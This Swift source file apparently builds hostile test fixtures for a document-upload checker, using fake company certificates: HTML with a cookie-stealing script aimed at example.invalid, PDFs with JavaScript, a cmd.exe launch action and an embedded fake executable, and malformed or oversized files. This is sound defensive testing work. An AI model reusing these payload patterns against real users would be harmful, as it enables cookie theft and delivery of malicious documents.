import Drawing

/// The hostile and broken inputs in `bad/`: wrong types under a .pdf name, truncated and
/// polyglot files, PDFs with active content, and images that lie about their size.
enum BadInputs {
    static let htmlPage = Array("""
        <!DOCTYPE html>
        <html lang="en">
        <head><meta charset="utf-8"><title>Certificate of Incorporation</title></head>
        <body>
        <h1>Certificate of Incorporation - NORTHWIND CONNECT LIMITED</h1>
        <p>Company Number 12345678</p>
        <script>document.location = "https://example.invalid/steal?c=" + document.cookie;</script>
        </body>
        </html>

        """.utf8)

    static let readme = Array("""
        Certificate of Incorporation - NORTHWIND CONNECT LIMITED
        Company Number 12345678
        (A text file inside a ZIP archive, renamed to .pdf by the Paperwork sample maker.)

        """.utf8)

    static func zipArchive(baseOffset: Int = 0) -> [UInt8] {
        ByteFormats.zip([(name: "certificate.txt", contents: readme)], baseOffset: baseOffset)
    }

    /// 200 bytes of an HTML comment, so the real header sits at offset 200.
    static func leadingJunk() -> [UInt8] {
        let opening = Array("<!-- uploaded via webmail gateway; scanned by nothing; ".utf8)
        let closing = Array(" -->\n".utf8)
        let filler = [UInt8](repeating: UInt8(ascii: "."), count: 200 - opening.count - closing.count)
        return opening + filler + closing
    }

    static func javascriptPDF() -> [UInt8] {
        HandWrittenPDF.certificate(
            title: "Certificate of Incorporation - NORTHWIND CONNECT LIMITED (JavaScript)",
            extraLines: ["This copy runs JavaScript when opened."],
            catalogExtras: { pdf in
                let openAction = pdf.add("<< /Type /Action /S /JavaScript /JS \(HandWrittenPDF.literal("app.alert('Paperwork sample: JavaScript ran on open');")) >>")
                let named = pdf.add("<< /Type /Action /S /JavaScript /JS \(HandWrittenPDF.literal("this.submitForm('https://example.invalid/collect');")) >>")
                let tree = pdf.add("<< /Names [(Collect) \(named) 0 R] >>")
                return "/OpenAction \(openAction) 0 R /Names << /JavaScript \(tree) 0 R >>"
            }
        )
    }

    static func launchActionPDF() -> [UInt8] {
        HandWrittenPDF.certificate(
            title: "Certificate of Incorporation - NORTHWIND CONNECT LIMITED (Launch)",
            extraLines: ["Click here to verify this certificate online."],
            pageExtras: { pdf in
                let action = "<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c echo Paperwork sample: launch action) /O (open) >> /NewWindow true >>"
                let link = pdf.add("<< /Type /Annot /Subtype /Link /Rect [72 396 330 412] /Border [0 0 1] /A \(action) >>")
                return "/Annots [\(link) 0 R]"
            }
        )
    }

    static func embeddedFilePDF() -> [UInt8] {
        // An .exe-looking payload: MZ header and DOS stub text, harmless bytes.
        var payload: [UInt8] = [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0x00, 0x00]
        payload += [UInt8](repeating: 0, count: 44) + [0x80, 0x00, 0x00, 0x00]
        payload += Array("This program cannot be run in DOS mode.\r\r\n$ Paperwork sample payload, not a real program.".utf8)
        return HandWrittenPDF.certificate(
            title: "Certificate of Incorporation - NORTHWIND CONNECT LIMITED (attachment)",
            extraLines: ["See the attached file for the signed original."],
            catalogExtras: { pdf in
                let file = pdf.addStream(payload, dictionary: "/Type /EmbeddedFile /Subtype /application#2Fx-msdownload /Params << /Size \(payload.count) /ModDate (D:20240315100000Z) >>")
                let spec = pdf.add("<< /Type /Filespec /F (certificate-original.exe) /UF (certificate-original.exe) /Desc (Signed original) /EF << /F \(file) 0 R >> >>")
                let tree = pdf.add("<< /Names [(certificate-original.exe) \(spec) 0 R] >>")
                return "/Names << /EmbeddedFiles \(tree) 0 R >> /PageMode /UseAttachments"
            }
        )
    }

    /// 25 text pages: longer than any certificate should be.
    static func tooManyPagesPDF() throws -> [UInt8] {
        let pages = 25
        let canvas = try PDFCanvas(pageSize: .a4, metadata: PDFMetadata(
            title: "Certificate of Incorporation - NORTHWIND CONNECT LIMITED (25 pages)",
            author: "Registrar of Companies for England and Wales",
            creator: "Paperwork sample maker",
            creationDate: "2024-03-15T10:00:00Z"
        ))
        for number in 1...pages {
            if number > 1 { canvas.newPage() }
            canvas.text("Certificate of Incorporation", at: Point(x: 72, y: 80), font: FontFamily.serif, size: 20, weight: .bold)
            canvas.text("NORTHWIND CONNECT LIMITED · Company Number 12345678", at: Point(x: 72, y: 112), font: FontFamily.serif, size: 12)
            canvas.text(
                "Continuation sheet \(number). The Registrar of Companies for England and Wales hereby certifies the entries on this page. Schedule of filings, page \(number) of \(pages).",
                at: Point(x: 72, y: 150), width: 451, font: FontFamily.serif, size: 11
            )
            canvas.text("Page \(number) of \(pages)", at: Point(x: 523, y: 790), font: FontFamily.sans, size: 8, alignment: .right)
        }
        return try canvas.finish()
    }

    /// A valid one-page PDF with nothing on the page.
    static func blankPDF() throws -> [UInt8] {
        let canvas = try PDFCanvas(pageSize: .a4, metadata: PDFMetadata(title: "Blank", creator: "Paperwork sample maker", creationDate: "2024-03-15T10:00:00Z"))
        return try canvas.finish()
    }

    /// A white A4 page at 150 dpi.
    static func blankPNG() throws -> [UInt8] {
        try RasterCanvas(pageSize: .a4, dotsPerInch: 150, background: .white).pngData()
    }
}
